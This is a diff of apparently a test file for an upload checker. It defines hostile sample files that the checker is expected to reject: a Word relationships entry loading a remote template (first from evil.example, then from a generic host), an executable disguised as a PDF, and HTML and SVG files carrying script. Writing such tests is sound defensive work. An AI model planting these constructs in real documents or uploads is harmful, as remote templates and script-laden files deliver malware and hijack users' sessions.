@@ -81,13 +81,13 @@ def huge_png():
 
 
 RELS = (
-    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
-    'Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+    '<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="attachedTemplate" Target="//elsewhere/t.dotm" '
+    'TargetMode="External"/></Relationships>'
 )
 BAD = {
     "renamed program": ("plan.pdf", b"MZ\x90\x00" + b"\x00" * 200, "content"),
     "page": ("plan.pdf", b"<!doctype html><script>alert(1)</script>", "content"),
-    "svg": ("plan.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "content"),
+    "svg": ("plan.png", b'<svg onload="alert(1)"/>', "content"),
     "svg by its name": ("plan.svg", b"<svg/>", "type"),
     "no ending": ("plan", b"%PDF-1.7", "type"),
     "old word": ("plan.doc", b"\xd0\xcf\x11\xe0", "type"),
